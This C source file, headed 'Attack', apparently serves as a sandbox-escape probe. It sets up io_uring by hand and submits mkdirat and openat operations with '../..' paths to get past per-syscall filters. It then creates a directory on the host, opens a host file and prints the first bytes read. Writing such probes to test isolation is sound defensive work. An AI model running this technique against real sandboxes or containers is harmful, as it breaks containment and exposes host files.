/* Attack: io_uring runs file operations from kernel worker context, past any per-syscall
 * filter. Set up a ring by hand (no liburing), then submit IORING_OP_MKDIRAT and
 * IORING_OP_OPENAT for paths that climb out of the root with "..".
 * argv[1]: a host directory name (absolute) to try to create a directory in.
 * argv[2]: a host file (absolute) to try to open.
 * Prints "io_uring_setup: ok" or "io_uring_setup: errno N", then one line per op. */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

struct ring {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static int setup(struct ring *r) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int fd = syscall(__NR_io_uring_setup, 4, &p);
    if (fd < 0) return -errno;
    r->fd = fd;
    size_t sq_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_sz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    if (cq_sz > sq_sz) sq_sz = cq_sz;
    char *sq = mmap(0, sq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQ_RING);
    if (sq == MAP_FAILED) return -errno;
    char *cq = sq; /* IORING_FEAT_SINGLE_MMAP: one mapping for both rings (5.4+) */
    r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
    r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    r->sq_array = (unsigned *)(sq + p.sq_off.array);
    r->cq_head = (unsigned *)(cq + p.cq_off.head);
    r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
    r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    r->sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                   MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
    if (r->sqes == MAP_FAILED) return -errno;
    return 0;
}

/* Submit one sqe and wait for its completion; returns cqe.res. */
static int submit(struct ring *r, struct io_uring_sqe *proto) {
    unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
    r->sqes[idx] = *proto;
    r->sq_array[idx] = idx;
    __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
    int n = syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
    if (n < 0) return -1000 - errno;
    unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
    if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE)) return -2000;
    int res = r->cqes[head & *r->cq_mask].res;
    __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
    return res;
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    struct ring r;
    int e = setup(&r);
    if (e < 0) {
        printf("io_uring_setup: errno %d\n", -e);
        return 0;
    }
    printf("io_uring_setup: ok\n");
    char mk[512], op[512];
    snprintf(mk, sizeof mk, "../../../../../../../..%s/made-by-uring", argv[1]);
    snprintf(op, sizeof op, "../../../../../../../..%s", argv[2]);

    struct io_uring_sqe s;
    memset(&s, 0, sizeof s);
    s.opcode = IORING_OP_MKDIRAT;
    s.fd = AT_FDCWD;
    s.addr = (unsigned long)mk;
    s.len = 0755;
    printf("mkdirat: %d\n", submit(&r, &s));

    memset(&s, 0, sizeof s);
    s.opcode = IORING_OP_OPENAT;
    s.fd = AT_FDCWD;
    s.addr = (unsigned long)op;
    s.open_flags = O_RDONLY;
    int fd = submit(&r, &s);
    printf("openat: %d\n", fd < 0 ? fd : 0);
    if (fd >= 0) {
        char buf[256] = {0};
        ssize_t n = read(fd, buf, sizeof buf - 1);
        printf("read: %s\n", n > 0 ? buf : "(nothing)");
    }
    return 0;
}
